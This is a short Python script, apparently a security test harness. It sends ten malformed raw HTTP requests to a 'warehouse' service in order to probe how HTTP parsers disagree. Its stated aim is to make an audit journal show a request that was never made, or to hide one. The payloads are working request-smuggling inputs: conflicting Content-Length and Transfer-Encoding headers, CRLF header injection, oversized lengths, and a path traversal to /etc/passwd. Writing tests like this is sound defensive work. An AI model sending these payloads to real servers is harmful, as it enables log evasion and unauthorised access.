# Requests that two readers of HTTP would cut at different places.
# aim: have the journal show a request that was never made, or hide one
# outcome: returned, raised
# each: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]
import socket

INNER = b"GET /v1/tables/orders/partitions/2026-03-13 HTTP/1.1\r\nHost: warehouse\r\n\r\n"
START = b"POST /v1/tables/orders HTTP/1.1\r\nHost: warehouse\r\n"
RAW = [
    START + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INNER,
    START + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(INNER) + INNER,
    START + b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + INNER,
    START + b"Transfer-Encoding: chunked\r\n\r\n5;" + b"x" * 20_000 + b"\r\nhello\r\n0\r\n\r\n" + INNER,
    START + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + INNER,
    START + b"Content-Length: -1\r\n\r\n" + INNER,
    START + b"Content-Length: 99999999999999999999\r\n\r\n" + INNER,
    b"GET /v1/tables/orders/partitions/2026-03-13\r\n\r\n" + INNER,
    b"GET /v1/tables/orders%0d%0aX-Injected:%201 HTTP/1.1\r\nHost: warehouse\r\nX: a\r\n b\r\n\r\n" + INNER,
    b"GET http://other/v1/tables/../../etc/passwd HTTP/1.1\nHost: a\nHost: b\n\n" + INNER,
]


def main(day, which):
    client = socket.create_connection(("warehouse", 8080), timeout=2)
    client.sendall(RAW[which])
    answer = b""
    try:
        while piece := client.recv(65536):
            answer += piece
    except TimeoutError:
        pass
    return answer.decode("latin-1")[:40]
